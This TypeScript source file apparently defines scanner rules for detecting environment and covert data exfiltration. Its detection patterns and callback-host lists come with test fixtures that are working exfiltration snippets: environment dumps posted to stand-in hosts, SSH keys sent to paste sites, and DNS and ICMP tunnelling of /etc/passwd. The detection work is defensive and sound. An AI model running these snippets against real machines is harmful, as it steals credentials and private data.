// Environment exfiltration, and covert channels: DNS, webhooks, paste and callback hosts. A notification hook or a paste
// client is ordinary; sending who and where the machine is, or the whole environment, is not.
import {
  all,
  any,
  c,
  command,
  count,
  go,
  inside,
  is,
  js,
  near,
  php,
  ps,
  py,
  type RuleSet,
  rb,
  sh,
  statement,
} from '../model.ts'

const whole = is(
  [
    'os.environ',
    'process.env',
    'os.environ()',
    'env.to_',
    'env::vars()',
    'getenv()',
    '$_env',
    '$_server',
    'getenvironmentvariables()',
    'system.getenv()',
  ],
  /(?:(?<=(?<![.\w])dict\(\s*)os\.environ\s{0,4}\)|(?<=(?:dumps|str|urlencode|b64encode|repr)\(\s*)(?:dict\()?os\.environ\b(?!\.get|\[)|os\.environ\.items\(\)|(?<=(?:stringify|entries|keys|Object\.assign)\((?:\s*\{\s*\}\s*,)?\s*)process\.env\s*[,)]|(?<=:\s?|\(\s?|\.\.\.)process\.env(?=\s*[,})])|os\.Environ\(\)|ENV\.to_(?:h|a|json|s)|env::vars\(\)|(?<=\(\s*)getenv\(\)|(?<=(?:json_encode|http_build_query|array_merge|serialize|print_r|var_export)\([^)\n]{0,40})\$_(?:ENV|SERVER)\b(?!\[)|GetEnvironmentVariables\(\)|System\.getenv\(\))/,
)

const identity = [
  is(['gethostname', 'os.hostname()', 'platform.node()', 'computername', 'socket.gethostname', 'os.hostname'], null),
  is(
    [
      'getpass.getuser',
      'os.getlogin',
      'userinfo()',
      'os.getenv("username")',
      "getenv('username')",
      'environ["user',
      "environ['user",
      'whoami',
      'user.current()',
      'env.user',
      'etc.getlogin',
    ],
    null,
  ),
  is(['os.homedir()', 'path.home()', 'expanduser', '__dirname', 'os.getcwd()', 'process.cwd()', 'os.getwd()'], null),
  is(
    [
      'ipify',
      'ipinfo.io',
      'ifconfig.me',
      'icanhazip',
      'ip-api.com',
      'checkip.amazonaws',
      'ipapi.co',
      'networkinterfaces()',
      'dns.getservers()',
      'uuid.getnode',
      'getmac',
    ],
    null,
  ),
  is(
    [
      'platform.system()',
      'platform.platform()',
      'os.platform()',
      'platform.uname',
      'os.uname',
      'os.release()',
      'os.type()',
      'os.arch()',
      'runtime.goos',
    ],
    null,
  ),
  is(
    [
      'imagegrab',
      'clipboard',
      'pyautogui.screenshot',
      'screenshot(',
      'wmic csproduct',
      'get-clipboard',
      'cv2.videocapture',
    ],
    null,
  ),
  is(['login data', 'leveldb', 'cookies', 'wallet', 'passwords', 'id_rsa', 'history'], null),
  is(
    ['exec', 'popen', 'check_output', 'system('],
    /(?:exec\w{0,10}|popen|check_output|system)\(\s{0,4}\[?["'`](?:id|whoami|hostname|uname|ifconfig|ipconfig|ip a)\b/i,
  ),
] as const

const drop =
  /(?:oast\.(?:fun|pro|live|site|me|online)|interact\.sh|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io|requestbin\.(?:com|net)|pipedream\.net|webhook\.site|canarytokens\.com|hookbin\.com|requestcatcher\.com|beeceptor\.com|ngrok(?:-free)?\.(?:io|app|dev)|serveo\.net|requestrepo\.com)/
const dropHost = is(
  [
    'oast.',
    'interact.sh',
    'burpcollaborator',
    'oastify',
    'dnslog.cn',
    'ceye.io',
    'requestbin',
    'pipedream.net',
    'webhook.site',
    'canarytokens.com',
    'hookbin.com',
    'requestcatcher',
    'beeceptor',
    'ngrok',
    'serveo.net',
    'requestrepo.com',
  ],
  drop,
)

const nets = [
  'requests.post',
  'urlopen(',
  'https.request',
  'http.request',
  'axios',
  'fetch(',
  'http.post',
  'net::http',
  'curl_exec',
  'http.client',
  'uploadstring',
  'invoke-restmethod',
  'invoke-webrequest',
  '.post(',
  'https.get',
  'requests.get',
  'urllib',
  'sendall',
  'reqwest',
  'http.newrequest',
  'sendbeacon',
  'openconnection',
  "require('https')",
  'require("https")',
  "from 'https'",
  "require('http')",
  'curl ',
  'octokit',
  'createorupdatefilecontents',
  'stream_context_create(',
] as const
const net = is(nets, null)

export const envExfiltration: RuleSet = {
  category: 'env-exfiltration',
  rules: [
    {
      id: 'env-exfiltration.whole',
      severity: 'high',
      why: 'Sends the whole environment, with every token in it, over the network.',
      when: near(
        8,
        whole,
        any(is([...nets], null)),
        any(is(['http://', 'https://', 'hostname', 'host:', 'octokit', 'webhook', '.invalid', 'url'], null)),
      ),
      matches: [
        php(
          "<?php $all = print_r($_ENV, true);\nfile_get_contents('http://x.example.invalid/i', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $all]]));",
        ),
        py("import os, requests, json\nrequests.post('https://x.example.invalid', data=json.dumps(dict(os.environ)))"),
        js(
          "const d = JSON.stringify(process.env)\nconst r = https.request({ hostname: 'x.example.invalid', method: 'POST' })\nr.write(d)",
        ),
        go(
          'b, _ := json.Marshal(os.Environ())\nhttp.Post("https://x.example.invalid", "application/json", bytes.NewReader(b))',
        ),
        rb("Net::HTTP.post(URI('https://x.example.invalid'), ENV.to_h.to_json)"),
        php(
          "<?php $c = curl_init('https://x.example.invalid');\ncurl_setopt($c, CURLOPT_POSTFIELDS, json_encode($_ENV));\ncurl_exec($c);",
        ),
      ],
      misses: [
        js("spawn('node', ['a.js'], { env: { ...process.env, DEBUG: '1' } })"),
        py('env = dict(os.environ)\nsubprocess.run(cmd, env=env)'),
        js('const key = process.env.API_KEY\nfetch(url, { headers: { key } })'),
      ],
    },
    {
      id: 'env-exfiltration.shell',
      severity: 'critical',
      why: 'Pipes the whole environment into a network client.',
      when: command(
        any(
          is(
            ['env', 'printenv', 'export -p'],
            /(?:(?<![\w./-])env|printenv|export -p)\s*(?:\|\s*(?:base64|gzip|sort|grep|xxd|tr|openssl)[^\n|]{0,60}){0,3}\|\s*(?:curl|wget|nc|ncat|netcat|openssl s_client)\b/,
            { after: 260 },
          ),
          is(['curl', 'wget'], /(?:curl|wget)\s[^\n]{0,200}?(?:\$\(|`)\s*(?:env|printenv)\b(?:\s*\)|\s*`|\s*\|)/, {
            after: 320,
          }),
        ),
      ),
      matches: [
        sh('env | base64 | curl -X POST -d @- https://x.example.invalid'),
        sh('curl "https://x.example.invalid/?d=$(printenv | base64 -w0)"'),
      ],
      misses: [sh('env | sort | grep PATH'), sh('/usr/bin/env curl https://example.org')],
    },
    {
      id: 'env-exfiltration.named-secret',
      severity: 'high',
      why: 'Puts a named secret from the environment into a request to a host it does not belong to.',
      when: command(
        near(
          0,
          is(
            [
              '$aws_',
              '${aws_',
              '$github_token',
              '${github_token',
              '$npm_token',
              '${npm_token',
              '$pypi_token',
              '$ssh_private_key',
              '${ssh_private_key',
              '$kube_token',
              '$gh_token',
              '${gh_token',
              '$docker_password',
              '${docker_password',
            ],
            /(?<=(?:\s-d|--data(?:-\w{3,10})?|--post-data=?)\s{0,2}["']?[^\s"']{0,30}|[?&][\w-]{1,20}=|[a-z]\/)\$\{?(?:AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID|GITHUB_TOKEN|NPM_TOKEN|PYPI_TOKEN|SSH_PRIVATE_KEY|KUBE_TOKEN|GH_TOKEN|DOCKER_PASSWORD)/,
          ),
          is(
            ['curl', 'wget'],
            /(?:curl|wget)\s(?![^\n]{0,200}(?:amazonaws|github\.com|npmjs|pypi|googleapis|azure|localhost|127\.0))/,
            {
              after: 240,
            },
          ),
        ),
      ),
      matches: [sh('curl "https://x.example.invalid/?k=$AWS_SECRET_ACCESS_KEY"')],
      misses: [
        sh('curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user'),
        sh('curl -d "$BODY" https://hooks.example.org'),
      ],
    },
  ],
}

export const covertExfiltration: RuleSet = {
  category: 'covert-exfiltration',
  rules: [
    {
      id: 'covert-exfiltration.chat-hook',
      severity: 'high',
      why: 'Sends what it learnt about a machine and its user to a chat hook.',
      when: all(
        is(
          ['/api/webhooks/', 'api.telegram.org/bot', 'hooks.slack.com/services'],
          /\/api\/webhooks\/|api\.telegram\.org\/bot|hooks\.slack\.com\/services/,
        ),
        count(3, ...identity),
        any('send', net),
      ),
      matches: [
        py(
          "HOOK = 'https://discord.com/api/webhooks/1/x'\nip = requests.get('https://api.ipify.org').text\nrequests.post(HOOK, json={'content': f'{socket.gethostname()} {getpass.getuser()} {ip}'})",
        ),
      ],
      misses: [
        py(
          "HOOK = 'https://discord.com/api/webhooks/1/x'\nrequests.post(HOOK, json={'content': f'build done on {socket.gethostname()}'})",
        ),
      ],
    },
    {
      id: 'covert-exfiltration.callback-host',
      severity: 'high',
      why: 'Reports a machine, its user or its files to a host made for catching callbacks.',
      when: all(
        dropHost,
        count(1, ...identity, whole),
        any('send', net, is(['nslookup', 'dig ', 'dns.lookup', 'gethostbyname', 'dns.resolve', 'curl', 'wget'], null)),
      ),
      matches: [
        js("const os = require('os')\nrequire('https').get('https://abc.oast.fun/?h=' + os.hostname())"),
        sh('curl "https://abc.webhook.site/?u=$(whoami)"'),
      ],
      misses: [
        js("// test with https://webhook.site/abc\nfetch('/api')"),
        py("requests.post('https://webhook.site/abc', json={'ok': True})"),
      ],
    },
    {
      id: 'covert-exfiltration.dns-shell',
      severity: 'high',
      why: 'Sends the output of a command as a part of a host name.',
      when: command(
        is(
          ['nslookup', 'dig ', 'host ', 'ping ', 'getent hosts'],
          /(?:nslookup|dig|host|ping|getent hosts)\s[^\n]{0,60}?(?:\$\(|`)[^\n)`]{0,160}?(?:whoami|hostname|id\b|cat\s|base64|base32|xxd|env\b|uname)[^\n)`]{0,100}[)`]["']?\.[\w.$-]{3,80}/,
          { after: 420 },
        ),
      ),
      matches: [
        sh('nslookup $(whoami).x.example.invalid'),
        sh('dig +short "$(cat /etc/passwd | head -1 | base32 | tr -d =).x.example.invalid"'),
      ],
      misses: [sh('nslookup example.org'), sh('ping -c1 $(hostname)')],
    },
    {
      id: 'covert-exfiltration.dns-code',
      severity: 'high',
      why: 'Encodes data into host names and looks them up.',
      when: any(
        near(
          5,
          is(
            [
              'gethostbyname(',
              'getaddrinfo(',
              'dns.lookup(',
              'dns.resolve',
              'resolver.resolve(',
              'lookuphost(',
              'resolve4(',
              'gethostentry(',
            ],
            /(?:gethostbyname|getaddrinfo|dns\.lookup|dns\.resolve\w{0,4}|resolver\.resolve|LookupHost|resolve4|GetHostEntry)\(\s*(?:f["'][^"'\n]{0,80}\{|["'`]?[^)\n]{0,80}(?:["'`]\s*\+|\+\s*["'`]|\$\{|%s|\.format\())/i,
          ),
          is(
            [
              'hexlify',
              '.hex()',
              "'hex'",
              '"hex"',
              'b32encode',
              'b64encode',
              'encodetostring',
              'hex.encode',
              'base32',
              'btoa(',
            ],
            null,
          ),
          any('read', 'environment', ...identity),
        ),
        near(
          30,
          is(['sendto('], /sendto\([^\n]{0,300}?,\s*53\s*\)/, { families: ['py', 'js', 'rb'], after: 360 }),
          is(['/etc/passwd', '/etc/shadow', '.ssh', '.aws/', '.gitconfig', '.kube'], null),
          'read',
        ),
      ),
      matches: [
        py(
          'names = ["/etc/passwd", home + "/.gitconfig"]\nfor label in packets(open(names[0], "rb").read()):\n    sock.sendto(query(label), ("192.0.2.1", 53))',
        ),
        py(
          "data = open('/etc/hostname').read().encode().hex()\nfor i in range(0, len(data), 60):\n    socket.gethostbyname(f'{data[i:i+60]}.x.example.invalid')",
        ),
        js("const h = Buffer.from(os.hostname()).toString('hex')\ndns.lookup(h + '.x.example.invalid', () => {})"),
      ],
      misses: [
        py('sock.sendto(query(name), ("192.0.2.1", 53))\ndata = sock.recv(512)'),
        py('ip = socket.gethostbyname(host)'),
        js('dns.lookup(`${name}.local`, done)'),
      ],
    },
    {
      id: 'covert-exfiltration.paste',
      severity: 'high',
      why: 'Uploads secrets of a machine to a paste or file-drop host.',
      when: near(
        8,
        is(
          [
            'pastebin.com/api',
            'transfer.sh',
            'file.io',
            'gofile.io',
            'anonfiles',
            '0x0.st',
            'termbin.com',
            'catbox.moe',
            'ix.io',
            'paste.rs',
            'bashupload.com',
            'dpaste',
            'hastebin.com/documents',
            'rentry.co/api',
            'temp.sh',
            'store1.gofile',
          ],
          null,
        ),
        is(
          [
            '/etc/passwd',
            '/etc/shadow',
            '.ssh',
            '.aws',
            '.env',
            'printenv',
            'os.environ',
            'process.env',
            'login data',
            'cookies',
            'wallet',
            'tar c',
            '.bash_history',
            'id_rsa',
            'passwords',
            'imagegrab',
            'screenshot',
            '.git-credentials',
            'systeminfo',
            'netsh wlan',
            'ipconfig /all',
          ],
          /(?:\/etc\/(?:passwd|shadow)|\.ssh\b|\.aws\b|\.env\b|printenv|os\.environ|process\.env\b(?!\.)|Login Data|wallet|tar c\w{0,3} [^\n]{0,30}(?:~|\$HOME|\/home|\/root)|\.bash_history|id_rsa|ImageGrab|screenshot|\.git-credentials|passwords|systeminfo|netsh wlan|ipconfig \/all)/i,
        ),
        any('send', net),
      ),
      matches: [
        py(
          'text = subprocess.getoutput("systeminfo") + subprocess.getoutput("netsh wlan show profiles")\nurlopen("https://pastebin.com/api/api_post.php", urlencode({"api_paste_code": text}).encode())',
        ),
        sh('cat /etc/passwd ~/.ssh/id_rsa | nc termbin.com 9999'),
        py(
          "z = shutil.make_archive('/tmp/l', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post('https://file.io', files={'file': open(z, 'rb')})",
        ),
      ],
      misses: [
        sh('make log | nc termbin.com 9999'),
        sh('curl --upload-file ./build.zip https://transfer.sh/build.zip'),
      ],
    },
    {
      id: 'covert-exfiltration.encoded-query',
      severity: 'high',
      why: 'Puts the encoded content of a file or the output of a command into an address.',
      when: command(
        is(
          ['curl', 'wget'],
          /(?:curl|wget)\s[^\n]{0,100}?https?:\/\/[^\s"']{3,120}?[?=/](?:\$\(|`)\s*(?:cat|tar|whoami|id|uname|ps|ls|hostname|ifconfig|ip a|history|find|base64|env)\b[^\n)`]{0,160}[)`]/,
          { after: 420 },
        ),
      ),
      matches: [
        sh('curl -s "http://x.example.invalid/?d=$(cat /etc/passwd | base64 -w0)"'),
        py('os.system(\'wget -q "http://x.example.invalid/$(whoami)"\')'),
      ],
      misses: [
        sh('curl "https://example.org/v/$(cat VERSION)" -o a.tgz'.replace('$(cat VERSION)', '${VERSION}')),
        sh('curl -H "Authorization: Bearer $(cat token)" https://api.example.org'),
      ],
    },
    {
      id: 'covert-exfiltration.beacon',
      severity: 'high',
      why: 'Reports host name, user, folders and addresses to an outside host: the beacon of dependency confusion.',
      when: inside(
        ['py', 'js', 'rb', 'go', 'php'],
        near(
          30,
          net,
          all(count(4, ...identity.slice(0, 5))),
          any(is(['http://', 'https://', 'hostname:', 'host:'], null)),
        ),
      ),
      matches: [
        js(
          "const d = JSON.stringify({ c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), o: os.platform() })\nconst r = https.request({ hostname: 'x.example.invalid', port: 443, method: 'POST' })\nr.write(d)",
        ),
      ],
      misses: [
        js(
          "const agent = `${os.platform()} ${os.release()}`\nhttps.request({ hostname: 'api.example.org', headers: { agent } })",
        ),
      ],
    },
    {
      id: 'covert-exfiltration.icmp',
      severity: 'high',
      why: 'Sends the content of files in the padding of pings.',
      when: any(
        command(
          statement(
            is(['ping '], /ping\s[^\n]{0,60}?-p\s+["']?\$/),
            is(['xxd', 'hexdump', 'od -', 'read', 'while'], null),
          ),
        ),
        command(
          near(
            3,
            is(['ping '], /ping\s[^\n]{0,60}?-p\s+["']?\$/),
            is(['xxd', 'hexdump', 'od -'], /(?:xxd|hexdump|(?<!\w)od)\s[^\n]{0,120}\|/),
          ),
        ),
        inside(
          ['py'],
          near(
            6,
            is(['icmp('], /ICMP\([^\n]{0,40}\)\s*\/\s*(?:Raw\(\s*(?:load\s*=\s*)?)?\w/),
            'read',
            is(['send(ip(', 'sr1(ip('], null),
          ),
        ),
        inside(
          ['c'],
          near(
            14,
            is(['icmp_echo'], /ICMP_ECHO\b/),
            is(['sock_raw'], null),
            is(['fread(', 'fgets('], null),
            is(['sendto('], null),
          ),
        ),
      ),
      matches: [
        sh('xxd -p -c 16 /etc/passwd | while read -r line; do\n  ping -c 1 -p "$line" 192.0.2.1\ndone'),
        py(
          'source = open(path, "rb")\nwhile piece := source.read(56):\n    send(IP(dst="192.0.2.1") / ICMP(type=8) / Raw(load=piece), verbose=False)',
        ),
        c(
          'struct { struct icmphdr h; char data[48]; } packet = { .h = { .type = ICMP_ECHO } };\nint s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);\nwhile (fread(packet.data, 1, 48, f) > 0)\n    sendto(s, &packet, sizeof packet, 0, to, sizeof *to);',
        ),
        sh('xxd -p -c 16 /etc/passwd | while read l; do ping -c 1 -p $l 192.0.2.1; done'),
      ],
      misses: [
        py('answer = sr1(IP(dst=host) / ICMP(), timeout=2)'),
        c('packet.h.type = ICMP_ECHO;\nsendto(s, &packet, sizeof packet, 0, to, sizeof *to);'),
        sh('ping -c 1 192.0.2.1'),
      ],
    },
    {
      id: 'covert-exfiltration.powershell',
      severity: 'high',
      why: 'Collects who and where the machine is, or its files, and posts them from PowerShell.',
      when: inside(
        ['ps'],
        near(
          12,
          is(
            ['invoke-restmethod', 'invoke-webrequest', 'uploadstring', 'uploadfile', 'irm ', 'iwr '],
            /(?:invoke-restmethod|invoke-webrequest|irm|iwr)\s[^\n]{0,200}?-method\s+["']?post|UploadString|UploadFile/i,
          ),
          is(['http://', 'https://', 'webhook', 'telegram'], null),
          count(
            2,
            is(['$env:computername', 'hostname'], null),
            is(['$env:username', 'whoami'], null),
            is(
              [
                'get-clipboard',
                'netsh wlan',
                'get-childitem',
                'compress-archive',
                'ipconfig',
                'systeminfo',
                'get-netipaddress',
              ],
              null,
            ),
          ),
        ),
      ),
      matches: [
        ps(
          '$i = "$env:COMPUTERNAME $env:USERNAME " + (ipconfig | Out-String)\nInvoke-RestMethod -Uri "https://x.example.invalid" -Method POST -Body $i',
        ),
      ],
      misses: [ps('Invoke-RestMethod -Uri "https://api.example.org" -Method POST -Body $body')],
    },
    {
      id: 'covert-exfiltration.source-to-hook',
      severity: 'high',
      why: 'Walks through the files of a project and posts their content to a chat hook.',
      when: near(
        4,
        is(['hooks.slack.com/services', '/api/webhooks/', 'api.telegram.org/bot'], null),
        is(['file.read(', 'read_text(', 'readfilesync(', 'file_get_contents(', '.read()', 'os.readfile('], null),
        any('walk', is(['dir[', 'dir.glob', 'glob.sync(', 'glob('], null)),
      ),
      matches: [
        rb(
          "Dir['app/**/*.rb'].each do |file|\n  Net::HTTP.post(URI('https://hooks.slack.com/services/T/B/x'), { text: File.read(file) }.to_json)\nend",
        ),
      ],
      misses: [
        rb("Net::HTTP.post(URI('https://hooks.slack.com/services/T/B/x'), { text: File.read('report.txt') }.to_json)"),
      ],
    },
  ],
}
